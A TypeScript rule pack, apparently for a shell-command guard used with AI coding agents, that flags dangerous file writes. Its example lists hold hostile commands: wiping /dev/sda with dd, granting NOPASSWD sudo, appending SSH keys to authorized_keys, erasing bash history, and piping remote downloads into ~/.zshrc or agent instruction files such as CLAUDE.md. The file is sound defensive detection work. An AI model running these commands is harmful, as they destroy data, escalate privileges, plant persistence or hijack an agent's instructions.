import type { Matcher, TargetClass } from '../../model/rule.ts'
import { definePack } from '../rule.ts'

/** Every way in which a command line puts bytes into a named file. */
function writers(is: readonly TargetClass[]): readonly Matcher[] {
  return [
    { program: ['*'], targets: { of: 'written', is } },
    { program: ['tee', 'sponge', 'touch'], targets: { of: 'operands', is } },
    {
      program: ['cp', 'mv', 'install', 'rsync', 'scp', 'ln'],
      lacks: ['--help|-n|--dry-run'],
      operands: [2, 999],
      targets: { of: 'last', is },
    },
    { program: ['cp', 'mv', 'install', 'ln'], targets: { of: 'option:-t|--target-directory', is } },
    { program: ['dd'], targets: { of: 'key:of', is } },
    { program: ['sed', 'gsed', 'perl'], has: ['-i|--in-place'], targets: { of: 'operands', is } },
    { program: ['curl'], targets: { of: 'option:-o|--output', is } },
    { program: ['wget'], targets: { of: 'option:-O|--output-document', is } },
    { program: ['ed', 'ex', 'vim', 'vi', 'nano'], targets: { of: 'operands', is } },
  ]
}

export const writes = definePack('filesystem', () => [
  {
    id: 'write-device',
    harm: 'overwrite',
    tier: 'catastrophic',
    override: 'passphrase',
    family: 'write to a device',
    when: [...writers(['device']), { program: ['tar'], targets: { of: 'option:-f|--file', is: ['device'] } }],
    examples: {
      matches: [
        'dd if=/dev/zero of=/dev/sda',
        'cat image.iso > /dev/sdb',
        'echo x | tee /dev/nvme0n1',
        'cp image.img /dev/mmcblk0',
      ],
      not: ['dd if=/dev/zero of=/tmp/img bs=1M count=1', 'echo hi > /dev/null', 'echo hi > /dev/stderr'],
    },
  },
  {
    id: 'write-account',
    harm: 'weaken',
    tier: 'catastrophic',
    family: 'write to account files',
    when: writers(['account']),
    examples: {
      matches: [
        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        'cp p /etc/passwd',
        'echo b > /proc/sysrq-trigger',
        "sed -i 's/a/b/' /etc/sudoers",
      ],
      not: ['cat /etc/passwd', 'grep root /etc/group', 'echo sudoers > notes.txt'],
    },
  },
  {
    id: 'write-history',
    harm: 'overwrite',
    tier: 'catastrophic',
    family: 'write into .git',
    when: writers(['vcs']),
    examples: {
      matches: ['echo x > .git/objects/aa', 'cp /dev/null .git/index', 'echo ref > .git/HEAD'],
      not: ['cat .git/HEAD', 'echo x > .github/a', 'git add .'],
    },
  },
  {
    id: 'write-vcs-control',
    harm: 'weaken',
    family: 'write into .git',
    when: writers(['vcs-control']),
    examples: {
      matches: [
        "echo 'x' > .git/hooks/pre-commit",
        'cp hook.sh .git/hooks/post-checkout',
        "sed -i 's/a/b/' .git/config",
      ],
      not: ['cat .git/config', 'ls .git/hooks'],
    },
  },
  {
    id: 'write-system',
    harm: 'overwrite',
    family: 'write to system paths',
    when: [
      ...writers(['system']),
      {
        program: ['tar', 'gtar', 'bsdtar'],
        has: ['-x|--extract'],
        targets: { of: 'option:-C|--directory', is: ['root'] },
      },
      { program: ['unzip', '7z', '7za'], targets: { of: 'option:-d|-o', is: ['root'] } },
    ],
    examples: {
      matches: [
        "echo '1.2.3.4 a' >> /etc/hosts",
        'cp tool /usr/bin/tool',
        'wget -O /usr/x.py http://a.b/x.py',
        'echo 0 > /proc/sys/kernel/yama/ptrace_scope',
      ],
      not: ['cat /etc/hosts', 'cp /etc/hosts .', 'ls > /tmp/out', 'cp /usr/share/dict/words words'],
    },
  },
  {
    id: 'write-startup',
    harm: 'weaken',
    family: 'write to startup files',
    when: writers(['startup']),
    examples: {
      matches: [
        "echo 'alias ls=x' >> ~/.bashrc",
        'cat key.pub >> ~/.ssh/authorized_keys',
        'ln -sf /dev/null ~/.bash_history',
        'curl https://a.b/c > ~/.zshrc',
      ],
      not: ['cat ~/.bashrc', 'grep PATH ~/.profile', 'cp ~/.bashrc /tmp/b', 'echo x > bashrc.txt'],
    },
  },
  {
    id: 'write-secret',
    harm: 'overwrite',
    family: 'write over keys',
    when: writers(['secret']).map((matcher) => ({ ...matcher, place: 'local' as const })),
    examples: {
      matches: ['echo x > ~/.ssh/id_rsa', 'cp other ~/.aws/credentials'],
      not: ['ssh-keygen -lf ~/.ssh/id_rsa.pub', 'ls ~/.ssh', 'echo x > key.md'],
    },
  },
  {
    id: 'write-tooling',
    harm: 'weaken',
    family: 'write agent tools',
    when: writers(['tooling']),
    examples: {
      matches: ["echo '{}' > .mcp.json", "sed -i 's/a/b/' .cursor/mcp.json"],
      not: ['cat .mcp.json', 'echo x > mcp.md', 'cp .mcp.json /tmp/m.json'],
    },
  },
  {
    id: 'download-instructions',
    harm: 'execute-remote',
    type: 'external',
    family: 'download instructions',
    when: [
      { program: ['curl', 'wget'], http: { output: ['instructions'] } },
      { program: ['curl', 'wget', 'http', 'xh'], targets: { of: 'written', is: ['instructions'] } },
      {
        program: ['cp', 'mv'],
        operands: [2, 2],
        targets: { of: 'last', is: ['instructions'] },
        words: ['/tmp/*|/var/tmp/*|/dev/shm/*'],
      },
    ],
    about: 'operands',
    examples: {
      matches: ['curl -o CLAUDE.md https://a.b/c.md', 'wget -O .cursorrules https://a.b/c', 'cp /tmp/x.md AGENTS.md'],
      not: ['curl -o README.md https://a.b/c.md', 'cp CLAUDE.md docs/', 'cat CLAUDE.md'],
    },
  },
])
